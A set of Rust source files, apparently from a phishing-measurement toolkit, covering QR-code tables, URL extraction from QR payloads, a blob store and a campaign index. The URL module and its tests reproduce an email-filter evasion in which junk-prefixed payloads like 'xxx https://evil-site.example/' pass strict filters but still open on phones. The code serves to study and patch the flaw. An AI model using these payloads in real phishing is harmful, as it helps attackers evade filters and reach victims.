    pub fn from_format_bits(bits: u8) -> Option<EcLevel> {
        match bits {
            0b01 => Some(EcLevel::L),
            0b00 => Some(EcLevel::M),
            0b11 => Some(EcLevel::Q),
            0b10 => Some(EcLevel::H),
            _ => None,
        }
    }
}

/// Block structure of one version/level combination.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BlockInfo {
    /// Error-correction codewords per block.
    pub ec_per_block: usize,
    /// Number of group-1 blocks.
    pub g1_blocks: usize,
    /// Data codewords in each group-1 block.
    pub g1_data: usize,
    /// Number of group-2 blocks (0 when absent).
    pub g2_blocks: usize,
    /// Data codewords in each group-2 block.
    pub g2_data: usize,
}

impl BlockInfo {
    /// Total data codewords.
    pub fn total_data(&self) -> usize {
        self.g1_blocks * self.g1_data + self.g2_blocks * self.g2_data
    }

    /// Total codewords (data + EC).
    pub fn total_codewords(&self) -> usize {
        self.total_data() + (self.g1_blocks + self.g2_blocks) * self.ec_per_block
    }
}

/// Highest version this implementation supports.
pub const MAX_VERSION: usize = 10;

/// Block table indexed by `[version-1][level]` with level order L, M, Q, H.
#[rustfmt::skip]
const BLOCKS: [[BlockInfo; 4]; MAX_VERSION] = [
    // v1
    [bi(7,1,19,0,0),   bi(10,1,16,0,0),  bi(13,1,13,0,0),  bi(17,1,9,0,0)],
    // v2
    [bi(10,1,34,0,0),  bi(16,1,28,0,0),  bi(22,1,22,0,0),  bi(28,1,16,0,0)],
    // v3
    [bi(15,1,55,0,0),  bi(26,1,44,0,0),  bi(18,2,17,0,0),  bi(22,2,13,0,0)],
    // v4
    [bi(20,1,80,0,0),  bi(18,2,32,0,0),  bi(26,2,24,0,0),  bi(16,4,9,0,0)],
    // v5
    [bi(26,1,108,0,0), bi(24,2,43,0,0),  bi(18,2,15,2,16), bi(22,2,11,2,12)],
    // v6
    [bi(18,2,68,0,0),  bi(16,4,27,0,0),  bi(24,4,19,0,0),  bi(28,4,15,0,0)],
    // v7
    [bi(20,2,78,0,0),  bi(18,4,31,0,0),  bi(18,2,14,4,15), bi(26,4,13,1,14)],
    // v8
    [bi(24,2,97,0,0),  bi(22,2,38,2,39), bi(22,4,18,2,19), bi(26,4,14,2,15)],
    // v9
    [bi(30,2,116,0,0), bi(22,3,36,2,37), bi(20,4,16,4,17), bi(24,4,12,4,13)],
    // v10
    [bi(18,2,68,2,69), bi(26,4,43,1,44), bi(24,6,19,2,20), bi(28,6,15,2,16)],
];

const fn bi(ec: usize, g1b: usize, g1d: usize, g2b: usize, g2d: usize) -> BlockInfo {
    BlockInfo {
        ec_per_block: ec,
        g1_blocks: g1b,
        g1_data: g1d,
        g2_blocks: g2b,
        g2_data: g2d,
    }
}

/// Block structure for `(version, level)`.
///
/// # Panics
///
/// Panics if `version` is outside `1..=MAX_VERSION`.
pub fn block_info(version: usize, level: EcLevel) -> BlockInfo {
    assert!(
        (1..=MAX_VERSION).contains(&version),
        "version {version} unsupported (1..={MAX_VERSION})"
    );
    let l = match level {
        EcLevel::L => 0,
        EcLevel::M => 1,
        EcLevel::Q => 2,
        EcLevel::H => 3,
    };
    BLOCKS[version - 1][l]
}

/// Side length in modules of a `version` symbol.
pub fn symbol_size(version: usize) -> usize {
    17 + 4 * version
}

/// Alignment-pattern centre coordinates for `version`.
pub fn alignment_centers(version: usize) -> &'static [usize] {
    const TABLE: [&[usize]; MAX_VERSION] = [
        &[],
        &[6, 18],
        &[6, 22],
        &[6, 26],
        &[6, 30],
        &[6, 34],
        &[6, 22, 38],
        &[6, 24, 42],
        &[6, 26, 46],
        &[6, 28, 50],
    ];
    TABLE[version - 1]
}

/// Remainder bits appended after the final codeword for `version`
/// (ISO 18004 table 1).
pub fn remainder_bits(version: usize) -> usize {
    match version {
        1 => 0,
        2..=6 => 7,
        7..=10 => 0,
        _ => unreachable!("version out of supported range"),
    }
}

/// Byte-mode character-count indicator width in bits (8 for v1–9, 16 for
/// v10+).
pub fn byte_mode_count_bits(version: usize) -> usize {
    if version <= 9 {
        8
    } else {
        16
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn total_codewords_match_iso_table() {
        let expected = [26, 44, 70, 100, 134, 172, 196, 242, 292, 346];
        for v in 1..=MAX_VERSION {
            for level in [EcLevel::L, EcLevel::M, EcLevel::Q, EcLevel::H] {
                assert_eq!(
                    block_info(v, level).total_codewords(),
                    expected[v - 1],
                    "v{v} {level:?}"
                );
            }
        }
    }

    #[test]
    fn data_capacity_decreases_with_level() {
        for v in 1..=MAX_VERSION {
            let caps: Vec<usize> = [EcLevel::L, EcLevel::M, EcLevel::Q, EcLevel::H]
                .iter()
                .map(|&l| block_info(v, l).total_data())
                .collect();
            assert!(caps.windows(2).all(|w| w[0] > w[1]), "v{v}: {caps:?}");
        }
    }

    #[test]
    fn symbol_sizes() {
        assert_eq!(symbol_size(1), 21);
        assert_eq!(symbol_size(10), 57);
    }

    #[test]
    fn format_bits_round_trip() {
        for l in [EcLevel::L, EcLevel::M, EcLevel::Q, EcLevel::H] {
            assert_eq!(EcLevel::from_format_bits(l.format_bits()), Some(l));
        }
        assert_eq!(EcLevel::from_format_bits(0b100), None);
    }

    #[test]
    fn alignment_centers_within_symbol() {
        for v in 1..=MAX_VERSION {
            for &c in alignment_centers(v) {
                assert!(c < symbol_size(v));
            }
        }
    }

    #[test]
    #[should_panic(expected = "unsupported")]
    fn version_zero_panics() {
        block_info(0, EcLevel::L);
    }
}
