//! URL extraction from decoded QR payloads — the policy mismatch behind the
//! paper's in-the-wild bug (§V-C1).
//!
//! Email security filters validate the *whole* payload as a URL and discard
//! anything syntactically irregular ([`extract_url_strict`]). Mobile camera
//! apps instead *search* the payload for a URL and ignore surrounding junk
//! ([`extract_url_lenient`]). Attackers exploit the gap with payloads such
//! as `"xxx https://evil-site.com/"`: the filter sees garbage and classifies
//! the message benign, the victim's phone opens the link.

/// Characters allowed in the body of a URL (conservative RFC 3986 subset).
fn is_url_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b'-' | b'.' | b'_' | b'~' | b':' | b'/' | b'?' | b'#' | b'[' | b']' | b'@' | b'!'
                | b'$' | b'&' | b'\'' | b'(' | b')' | b'*' | b'+' | b',' | b';' | b'=' | b'%'
        )
}

/// `true` if the entire payload is one syntactically valid http(s) URL.
///
/// This is the validation an email-filter QR scanner applies: scheme at
/// offset zero, a plausible host with at least one dot, no stray bytes.
pub fn is_valid_url(payload: &str) -> bool {
    let rest = if let Some(r) = payload.strip_prefix("https://") {
        r
    } else if let Some(r) = payload.strip_prefix("http://") {
        r
    } else {
        return false;
    };
    if rest.is_empty() {
        return false;
    }
    if !payload.bytes().all(is_url_byte) {
        return false;
    }
    let host_end = rest
        .find(['/', '?', '#'])
        .unwrap_or(rest.len());
    let host = &rest[..host_end];
    !host.is_empty()
        && host.contains('.')
        && !host.starts_with('.')
        && !host.ends_with('.')
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-' || b == b':')
}

/// Strict (email-filter) extraction: the payload must *be* a URL.
///
/// Returns `None` for the faulty payloads the paper observed, reproducing
/// the false-negative behaviour of two of the three tested commercial
/// filters.
pub fn extract_url_strict(payload: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(payload).ok()?;
    if is_valid_url(text) {
        Some(text.to_string())
    } else {
        None
    }
}

/// Lenient (mobile-camera) extraction: find the first http(s) URL embedded
/// anywhere in the payload, discarding junk before and after it.
pub fn extract_url_lenient(payload: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(payload);
    for scheme in ["https://", "http://"] {
        if let Some(start) = text.find(scheme) {
            let tail = &text[start..];
            let end = tail
                .bytes()
                .position(|b| !is_url_byte(b))
                .unwrap_or(tail.len());
            let candidate = &tail[..end];
            if is_valid_url(candidate) {
                return Some(candidate.to_string());
            }
        }
    }
    None
}

/// Extract a URL that starts at the very beginning of `payload` (after
/// UTF-8 decoding): the anchored variant used when the caller has already
/// located a scheme, so a later `https://` in the same text cannot shadow
/// an earlier `http://`.
pub fn extract_url_anchored(payload: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(payload);
    if !(text.starts_with("http://") || text.starts_with("https://")) {
        return None;
    }
    let end = text
        .bytes()
        .position(|b| !is_url_byte(b))
        .unwrap_or(text.len());
    let candidate = &text[..end];
    is_valid_url(candidate).then(|| candidate.to_string())
}

/// The patched extraction the two vendors deployed after the paper's
/// responsible disclosure: strict validation first, falling back to lenient
/// search so faulty payloads no longer slip through.
pub fn extract_url_patched(payload: &[u8]) -> Option<String> {
    extract_url_strict(payload).or_else(|| extract_url_lenient(payload))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_url_accepted_by_both() {
        let p = b"https://evil-site.example/dhfYWfH";
        assert_eq!(
            extract_url_strict(p).as_deref(),
            Some("https://evil-site.example/dhfYWfH")
        );
        assert_eq!(
            extract_url_lenient(p).as_deref(),
            Some("https://evil-site.example/dhfYWfH")
        );
    }

    #[test]
    fn junk_prefix_reproduces_the_bug() {
        for payload in [
            &b"xxx https://evil-site.example/"[..],
            &b"[https://evil-site.example/"[..],
            &b"scan me! http://evil-site.example/login"[..],
        ] {
            assert_eq!(extract_url_strict(payload), None, "{payload:?}");
            let url = extract_url_lenient(payload).expect("phone finds the URL");
            assert!(url.starts_with("http"), "{url}");
            assert!(url.contains("evil-site.example"), "{url}");
        }
    }

    #[test]
    fn patched_extractor_closes_the_gap() {
        assert_eq!(
            extract_url_patched(b"xxx https://evil-site.example/").as_deref(),
            Some("https://evil-site.example/")
        );
        assert_eq!(
            extract_url_patched(b"https://ok.example/p").as_deref(),
            Some("https://ok.example/p")
        );
    }

    #[test]
    fn non_url_payloads_yield_nothing() {
        for payload in [&b"WIFI:T:WPA;S:net;P:pw;;"[..], b"hello world", b""] {
            assert_eq!(extract_url_strict(payload), None);
            assert_eq!(extract_url_lenient(payload), None);
        }
    }

    #[test]
    fn strict_rejects_bad_hosts() {
        for bad in [
            "https://",
            "https://nodot/path",
            "https://.lead.example/",
            "https://trail.example./",
            "ftp://host.example/",
            "https://spaced host.example/",
        ] {
            assert!(!is_valid_url(bad), "{bad}");
        }
    }

    #[test]
    fn lenient_trims_trailing_junk() {
        let p = "see https://evil.example/path\u{201d} quoted".as_bytes();
        assert_eq!(
            extract_url_lenient(p).as_deref(),
            Some("https://evil.example/path")
        );
    }

    #[test]
    fn lenient_prefers_https_scheme_position() {
        let p = b"go http://first.example/a then https://second.example/b";
        // https is searched first per policy
        assert_eq!(
            extract_url_lenient(p).as_deref(),
            Some("https://second.example/b")
        );
    }

    #[test]
    fn anchored_extraction_ignores_later_schemes() {
        // the bug class: an http URL followed by an https URL elsewhere
        let p = b"http://first.example/tok88 then https://second.example/b";
        assert_eq!(
            extract_url_anchored(p).as_deref(),
            Some("http://first.example/tok88")
        );
        assert_eq!(extract_url_anchored(b"junk https://x.example/"), None);
        assert_eq!(extract_url_anchored(b""), None);
    }

    #[test]
    fn binary_payload_handled() {
        let mut p = vec![0xFF, 0xFE];
        p.extend_from_slice(b"https://bin.example/x");
        assert!(extract_url_strict(&p).is_none());
        assert_eq!(
            extract_url_lenient(&p).as_deref(),
            Some("https://bin.example/x")
        );
    }
}
