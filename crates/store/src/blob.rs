//! Content-addressed blob store for captured artifacts (raw messages,
//! screenshots).
//!
//! Every blob lives at `blobs/<hash:032x>.blob` where `<hash>` is the
//! 128-bit FNV fingerprint of its bytes — the same `fnv128` the pipeline
//! already uses for message content hashes and artifact-decode cache keys,
//! so a record's `content_hash` doubles as its raw message's blob address.
//! Identical bytes are stored once no matter how many records or campaigns
//! reference them.
//!
//! Durability discipline: a blob is written to a temp file, fsynced, and
//! renamed into place — so a crash never exposes a half-written blob under
//! its final name — and the rename itself only becomes durable once the
//! blob *directory* is fsynced, which [`BlobStore::sync`] does for every
//! rename since the last barrier. Blobs are written before the record
//! frame that references them, so the worst a crash can leave is an
//! *orphan* blob (no referencing frame), which
//! [`Store::gc_orphan_blobs`](crate::Store::gc_orphan_blobs) collects —
//! never a frame whose evidence is missing.

use crate::vfs::Vfs;
use cb_artifacts::fingerprint::fnv128;
use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// File name of the blob addressed by `hash`.
pub fn blob_file_name(hash: u128) -> String {
    format!("{hash:032x}.blob")
}

/// Parse a blob file name back to its address.
pub fn parse_blob_name(name: &str) -> Option<u128> {
    let stem = name.strip_suffix(".blob")?;
    if stem.len() != 32 {
        return None;
    }
    u128::from_str_radix(stem, 16).ok()
}

/// One verification failure found by [`BlobStore::verify`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BlobFault {
    /// The address the blob was stored under.
    pub hash: u128,
    /// What went wrong.
    pub reason: String,
}

/// The deduplicating blob directory.
#[derive(Debug)]
pub struct BlobStore {
    vfs: Arc<dyn Vfs>,
    dir: PathBuf,
    known: HashSet<u128>,
    /// Renames since the last directory fsync (cleared by [`sync`]).
    pending_dir_sync: bool,
}

impl BlobStore {
    /// Open (creating if needed) the blob directory and index the blobs
    /// already present. Stray `.tmp` files from a crash mid-`put` are
    /// removed.
    pub fn open(vfs: Arc<dyn Vfs>, dir: &Path) -> std::io::Result<BlobStore> {
        vfs.create_dir_all(dir)?;
        let mut known = HashSet::new();
        for name in vfs.read_dir_names(dir)? {
            if let Some(hash) = parse_blob_name(&name) {
                known.insert(hash);
            } else if name.ends_with(".tmp") {
                vfs.remove_file(&dir.join(name))?;
            }
        }
        Ok(BlobStore { vfs, dir: dir.to_path_buf(), known, pending_dir_sync: false })
    }

    /// Store `bytes` under `hash`. Returns `true` when bytes were written,
    /// `false` on a dedup hit (the address already exists).
    ///
    /// `hash` must be `fnv128(bytes)`; this is debug-asserted, not
    /// recomputed on the hot path.
    pub fn put(&mut self, hash: u128, bytes: &[u8]) -> std::io::Result<bool> {
        debug_assert_eq!(hash, fnv128(bytes), "blob address must be the fnv128 of its bytes");
        if self.known.contains(&hash) {
            return Ok(false);
        }
        let tmp = self.dir.join(format!("{hash:032x}.tmp"));
        self.vfs.write(&tmp, bytes)?;
        self.vfs.fsync(&tmp)?;
        self.vfs.rename(&tmp, &self.dir.join(blob_file_name(hash)))?;
        self.pending_dir_sync = true;
        self.known.insert(hash);
        Ok(true)
    }

    /// Make every rename since the last barrier durable by fsyncing the
    /// blob directory. Called by [`Store::sync`](crate::Store::sync)
    /// *before* the segment writers sync, preserving blob-before-frame
    /// ordering on disk.
    pub fn sync(&mut self) -> std::io::Result<()> {
        if self.pending_dir_sync {
            self.vfs.sync_dir(&self.dir)?;
            self.pending_dir_sync = false;
        }
        Ok(())
    }

    /// Read the blob at `hash`, if present.
    pub fn get(&self, hash: u128) -> std::io::Result<Option<Vec<u8>>> {
        if !self.known.contains(&hash) {
            return Ok(None);
        }
        self.vfs.read(&self.dir.join(blob_file_name(hash))).map(Some)
    }

    /// Whether `hash` is stored.
    pub fn contains(&self, hash: u128) -> bool {
        self.known.contains(&hash)
    }

    /// Number of distinct blobs.
    pub fn len(&self) -> usize {
        self.known.len()
    }

    /// Whether the store holds no blobs.
    pub fn is_empty(&self) -> bool {
        self.known.is_empty()
    }

    /// All stored addresses, sorted (deterministic iteration for reports).
    pub fn hashes(&self) -> Vec<u128> {
        let mut v: Vec<u128> = self.known.iter().copied().collect();
        v.sort_unstable();
        v
    }

    /// Remove every blob whose address is not in `live`. Returns the
    /// removed addresses, sorted. Used by orphan GC after crash recovery.
    pub fn remove_except(&mut self, live: &HashSet<u128>) -> std::io::Result<Vec<u128>> {
        let orphans: Vec<u128> =
            self.hashes().into_iter().filter(|h| !live.contains(h)).collect();
        for &hash in &orphans {
            self.vfs.remove_file(&self.dir.join(blob_file_name(hash)))?;
            self.known.remove(&hash);
        }
        if !orphans.is_empty() {
            self.vfs.sync_dir(&self.dir)?;
        }
        Ok(orphans)
    }

    /// Re-read and re-hash every blob, returning the faults found (missing
    /// files, bytes that no longer hash to their address).
    pub fn verify(&self) -> std::io::Result<Vec<BlobFault>> {
        let mut faults = Vec::new();
        for hash in self.hashes() {
            match self.vfs.read(&self.dir.join(blob_file_name(hash))) {
                Err(e) => faults.push(BlobFault { hash, reason: format!("unreadable: {e}") }),
                Ok(bytes) => {
                    let got = fnv128(&bytes);
                    if got != hash {
                        faults.push(BlobFault {
                            hash,
                            reason: format!("content hash {got:032x} does not match address"),
                        });
                    }
                }
            }
        }
        Ok(faults)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vfs::RealVfs;

    fn scratch(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("cb-blob-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn put_get_dedup_round_trip() {
        let dir = scratch("roundtrip");
        let mut blobs = BlobStore::open(RealVfs::arc(), &dir).unwrap();
        let bytes = b"screenshot bytes".to_vec();
        let hash = fnv128(&bytes);
        assert!(blobs.put(hash, &bytes).unwrap(), "first write stores");
        assert!(!blobs.put(hash, &bytes).unwrap(), "second write dedups");
        blobs.sync().unwrap();
        assert_eq!(blobs.get(hash).unwrap(), Some(bytes));
        assert_eq!(blobs.get(1).unwrap(), None);
        assert_eq!(blobs.len(), 1);

        // Reopen re-indexes from the directory.
        let reopened = BlobStore::open(RealVfs::arc(), &dir).unwrap();
        assert!(reopened.contains(hash));
        assert!(reopened.verify().unwrap().is_empty());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn verify_reports_tampered_blob() {
        let dir = scratch("tamper");
        let mut blobs = BlobStore::open(RealVfs::arc(), &dir).unwrap();
        let bytes = b"original".to_vec();
        let hash = fnv128(&bytes);
        blobs.put(hash, &bytes).unwrap();
        std::fs::write(dir.join(blob_file_name(hash)), b"tampered").unwrap();
        let faults = blobs.verify().unwrap();
        assert_eq!(faults.len(), 1);
        assert_eq!(faults[0].hash, hash);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn remove_except_collects_only_orphans() {
        let dir = scratch("gc");
        let mut blobs = BlobStore::open(RealVfs::arc(), &dir).unwrap();
        let live_bytes = b"referenced".to_vec();
        let orphan_bytes = b"orphaned".to_vec();
        let live_hash = fnv128(&live_bytes);
        let orphan_hash = fnv128(&orphan_bytes);
        blobs.put(live_hash, &live_bytes).unwrap();
        blobs.put(orphan_hash, &orphan_bytes).unwrap();
        blobs.sync().unwrap();
        let live: HashSet<u128> = [live_hash].into_iter().collect();
        assert_eq!(blobs.remove_except(&live).unwrap(), vec![orphan_hash.min(orphan_hash)]);
        assert!(blobs.contains(live_hash));
        assert!(!blobs.contains(orphan_hash));
        assert_eq!(blobs.remove_except(&live).unwrap(), Vec::new(), "idempotent");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn open_clears_stray_tmp_files() {
        let dir = scratch("straytmp");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("0123.tmp"), b"half-written").unwrap();
        let blobs = BlobStore::open(RealVfs::arc(), &dir).unwrap();
        assert!(blobs.is_empty());
        assert!(!dir.join("0123.tmp").exists());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn names_round_trip() {
        let name = blob_file_name(0xDEAD_BEEF);
        assert_eq!(name.len(), 32 + 5);
        assert_eq!(parse_blob_name(&name), Some(0xDEAD_BEEF));
        assert_eq!(parse_blob_name("cafe.blob"), None);
        assert_eq!(parse_blob_name("not-a-blob.tmp"), None);
    }
}
