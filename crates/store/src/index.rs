//! In-memory indexes over the record log, rebuilt on open and maintained
//! on append.
//!
//! The index holds one compact [`RecordMeta`] per stored record (never the
//! record itself) plus inverted maps by landing domain, certificate
//! fingerprint, screenshot perceptual hash, message class and content
//! hash — the lookup axes of the paper's longitudinal campaign analysis.
//! Campaign ids are derived, not stored: [`crate::query::cluster_campaigns`]
//! rebuilds them from these metas with a union-find over shared evidence.

use crate::metascan::ScannedRecord;
use cb_netsim::Url;
use cb_phishgen::MessageClass;
use crawlerbox::ScanRecord;
use std::collections::{BTreeMap, HashMap, HashSet};

/// The URL-token scheme of a path: each segment reduced to a shape token
/// (`d`igits / he`x` / `a`lpha / `m`ixed, plus length), joined with `/`.
///
/// Phishing kits stamp out URLs from a template — `/login/secure/<hex32>`
/// and friends — so two URLs sharing a scheme are campaign co-occurrence
/// evidence even when domains and tokens differ. Returns `None` for paths
/// too generic to correlate on (empty, or a single short segment).
pub fn url_token_scheme(url: &str) -> Option<String> {
    let after_scheme = url.split_once("://").map(|(_, rest)| rest).unwrap_or(url);
    let path = after_scheme.split_once('/').map(|(_, p)| p).unwrap_or("");
    let path = path.split(['?', '#']).next().unwrap_or("");
    let segments: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
    if segments.is_empty() {
        return None;
    }
    // One short segment ("/index", "/a") would cluster unrelated sites.
    if segments.len() == 1 && segments[0].len() < 8 {
        return None;
    }
    let tokens: Vec<String> = segments
        .iter()
        .map(|seg| {
            // Alpha outranks hex so ordinary words ("deadbeef") don't read
            // as hex tokens; hex requires at least one actual digit.
            let class = if seg.bytes().all(|b| b.is_ascii_digit()) {
                'd'
            } else if seg.bytes().all(|b| b.is_ascii_alphabetic()) {
                'a'
            } else if seg.bytes().all(|b| b.is_ascii_hexdigit()) {
                'x'
            } else {
                'm'
            };
            format!("{class}{}", seg.len())
        })
        .collect();
    Some(tokens.join("/"))
}

/// Compact per-record index entry, derived from a [`ScanRecord`] at append
/// or recovery time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecordMeta {
    /// Position in the log (0-based append order).
    pub seq: usize,
    /// Corpus message id.
    pub message_id: usize,
    /// FNV-128 hash of the raw message (blob address of the message).
    pub content_hash: u128,
    /// Derived §V class.
    pub class: MessageClass,
    /// Whether the scan degraded (error provenance present).
    pub degraded: bool,
    /// Landing domains of the record's visits (deduped, first-seen order).
    pub domains: Vec<String>,
    /// Certificate fingerprints observed across visits (deduped).
    pub cert_fingerprints: Vec<u64>,
    /// Screenshot perceptual hashes across visits (deduped).
    pub phashes: Vec<u64>,
    /// URL-token schemes of the visited URLs (deduped).
    pub url_schemes: Vec<String>,
}

/// The per-visit evidence meta derivation consumes — one borrowed view
/// shared by the live append path (full [`ScanRecord`]) and the recovery
/// path (borrowed [`ScannedRecord`] payload scan), so the two can never
/// derive different metas for the same record.
struct VisitFacts<'a> {
    /// The landing URL (last chain hop, or the requested URL).
    final_url: &'a str,
    /// The URL the pipeline requested.
    requested_url: &'a str,
    /// Certificate fingerprint of the landing domain.
    cert_fingerprint: Option<u64>,
    /// Screenshot perceptual hash.
    phash: Option<u64>,
}

fn meta_from_facts<'a>(
    seq: usize,
    message_id: usize,
    content_hash: u128,
    class: MessageClass,
    degraded: bool,
    visits: impl Iterator<Item = VisitFacts<'a>>,
) -> RecordMeta {
    let mut domains = Vec::new();
    let mut cert_fingerprints = Vec::new();
    let mut phashes = Vec::new();
    let mut url_schemes = Vec::new();
    for visit in visits {
        if let Some(d) = Url::parse(visit.final_url).ok().map(|u| u.host) {
            if !domains.contains(&d) {
                domains.push(d);
            }
        }
        if let Some(fp) = visit.cert_fingerprint {
            if !cert_fingerprints.contains(&fp) {
                cert_fingerprints.push(fp);
            }
        }
        if let Some(h) = visit.phash {
            if !phashes.contains(&h) {
                phashes.push(h);
            }
        }
        if let Some(s) = url_token_scheme(visit.requested_url) {
            if !url_schemes.contains(&s) {
                url_schemes.push(s);
            }
        }
    }
    RecordMeta {
        seq,
        message_id,
        content_hash,
        class,
        degraded,
        domains,
        cert_fingerprints,
        phashes,
        url_schemes,
    }
}

impl RecordMeta {
    /// Derive the meta of `record` at log position `seq`.
    pub fn of(seq: usize, record: &ScanRecord) -> RecordMeta {
        meta_from_facts(
            seq,
            record.message_id,
            record.content_hash,
            record.class,
            record.error.is_some(),
            record.visits.iter().map(|v| VisitFacts {
                final_url: v.final_url(),
                requested_url: &v.requested_url,
                cert_fingerprint: v.cert_fingerprint,
                phash: v.screenshot_hash.map(|h| h.phash),
            }),
        )
    }

    /// Derive the meta of a borrowed payload scan at log position `seq`,
    /// or `None` when the class variant is unknown (the payload would not
    /// decode as a record either — corruption, not a meta).
    pub(crate) fn of_scanned(seq: usize, scanned: &ScannedRecord<'_>) -> Option<RecordMeta> {
        // Unit-variant names of `MessageClass` as serde writes them. Kept
        // in sync by the debug-build cross-check in `shard::replay_segment`
        // (every recovered payload is re-decoded and compared).
        let class = match scanned.class.as_ref() {
            "NoResource" => MessageClass::NoResource,
            "ErrorPage" => MessageClass::ErrorPage,
            "InteractionRequired" => MessageClass::InteractionRequired,
            "Download" => MessageClass::Download,
            "ActivePhish" => MessageClass::ActivePhish,
            _ => return None,
        };
        Some(meta_from_facts(
            seq,
            scanned.message_id,
            scanned.content_hash,
            class,
            scanned.degraded,
            scanned.visits.iter().map(|v| VisitFacts {
                final_url: v.final_url.as_deref().unwrap_or(v.requested_url.as_ref()),
                requested_url: v.requested_url.as_ref(),
                cert_fingerprint: v.cert_fingerprint,
                phash: v.phash,
            }),
        ))
    }
}

/// The rebuilt-on-open, maintained-on-append index over the log.
#[derive(Debug, Default)]
pub struct StoreIndex {
    metas: Vec<RecordMeta>,
    by_hash: HashMap<u128, usize>,
    by_domain: BTreeMap<String, Vec<usize>>,
    by_cert: BTreeMap<u64, Vec<usize>>,
    by_phash: BTreeMap<u64, Vec<usize>>,
    by_class: BTreeMap<MessageClass, Vec<usize>>,
}

impl StoreIndex {
    /// An empty index.
    pub fn new() -> StoreIndex {
        StoreIndex::default()
    }

    /// Index `record` as the next log entry; returns its `seq`.
    pub fn insert(&mut self, record: &ScanRecord) -> usize {
        let seq = self.metas.len();
        self.push_meta(RecordMeta::of(seq, record));
        seq
    }

    /// Append a recovery-derived meta as the next log entry, assigning its
    /// `seq`; returns that seq. The payload-scan path's counterpart of
    /// [`insert`](Self::insert).
    pub(crate) fn push_recovered(&mut self, mut meta: RecordMeta) -> usize {
        let seq = self.metas.len();
        meta.seq = seq;
        self.push_meta(meta);
        seq
    }

    fn push_meta(&mut self, meta: RecordMeta) {
        debug_assert_eq!(meta.seq, self.metas.len(), "metas must be pushed in seq order");
        let seq = meta.seq;
        self.by_hash.insert(meta.content_hash, seq);
        for d in &meta.domains {
            self.by_domain.entry(d.clone()).or_default().push(seq);
        }
        for &fp in &meta.cert_fingerprints {
            self.by_cert.entry(fp).or_default().push(seq);
        }
        for &p in &meta.phashes {
            self.by_phash.entry(p).or_default().push(seq);
        }
        self.by_class.entry(meta.class).or_default().push(seq);
        self.metas.push(meta);
    }

    /// Test-only: insert a pre-derived meta (the clustering tests build
    /// synthetic evidence without full scan records).
    #[cfg(test)]
    pub(crate) fn insert_meta_for_test(&mut self, mut meta: RecordMeta) {
        meta.seq = self.metas.len();
        self.push_meta(meta);
    }

    /// Records indexed.
    pub fn len(&self) -> usize {
        self.metas.len()
    }

    /// Whether the log is empty.
    pub fn is_empty(&self) -> bool {
        self.metas.is_empty()
    }

    /// All metas in log order.
    pub fn metas(&self) -> &[RecordMeta] {
        &self.metas
    }

    /// Meta of log entry `seq`.
    pub fn meta(&self, seq: usize) -> Option<&RecordMeta> {
        self.metas.get(seq)
    }

    /// Whether a record with this content hash is stored — the incremental
    /// re-scan predicate.
    pub fn contains_hash(&self, hash: u128) -> bool {
        self.by_hash.contains_key(&hash)
    }

    /// The latest log seq recorded for `hash`.
    pub fn seq_of_hash(&self, hash: u128) -> Option<usize> {
        self.by_hash.get(&hash).copied()
    }

    /// All recorded content hashes — feed to
    /// [`CrawlerBox::with_known_hashes`](crawlerbox::CrawlerBox::with_known_hashes)
    /// to turn a repeated run into a delta scan.
    pub fn known_hashes(&self) -> HashSet<u128> {
        self.by_hash.keys().copied().collect()
    }

    /// Seqs of records that landed on `domain` (exact match).
    pub fn by_domain(&self, domain: &str) -> &[usize] {
        self.by_domain.get(domain).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Seqs of records that observed certificate fingerprint `fp`.
    pub fn by_cert(&self, fp: u64) -> &[usize] {
        self.by_cert.get(&fp).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Seqs of records whose screenshots hashed to `phash`.
    pub fn by_phash(&self, phash: u64) -> &[usize] {
        self.by_phash.get(&phash).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Seqs of records of `class`.
    pub fn by_class(&self, class: MessageClass) -> &[usize] {
        self.by_class.get(&class).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Landing domains in the index, with record counts (sorted by domain).
    pub fn domain_counts(&self) -> impl Iterator<Item = (&str, usize)> {
        self.by_domain.iter().map(|(d, seqs)| (d.as_str(), seqs.len()))
    }

    /// Class histogram over the whole log (sorted by class).
    pub fn class_counts(&self) -> impl Iterator<Item = (MessageClass, usize)> + '_ {
        self.by_class.iter().map(|(c, seqs)| (*c, seqs.len()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn token_schemes_capture_shape_not_content() {
        assert_eq!(
            url_token_scheme("https://a.example/login/secure/0123abcd0123abcd"),
            Some("a5/a6/x16".to_string())
        );
        assert_eq!(
            url_token_scheme("https://other.example/admin/portal/fedcba9876543210"),
            Some("a5/a6/x16".to_string()),
            "same template shape, different tokens and domain"
        );
        assert_eq!(url_token_scheme("https://a.example/track?id=9"), None);
        assert_eq!(url_token_scheme("https://a.example/"), None);
        assert_eq!(url_token_scheme("https://a.example"), None);
        assert_eq!(url_token_scheme("https://a.example/verify-account-22"), Some("m17".into()));
        assert_eq!(url_token_scheme("https://a.example/12345/678"), Some("d5/d3".into()));
    }

    #[test]
    fn hex_beats_alpha_only_when_digits_present() {
        // "deadbeef" is all hex digits but also all alphabetic; the alpha
        // class must win so ordinary words don't read as tokens.
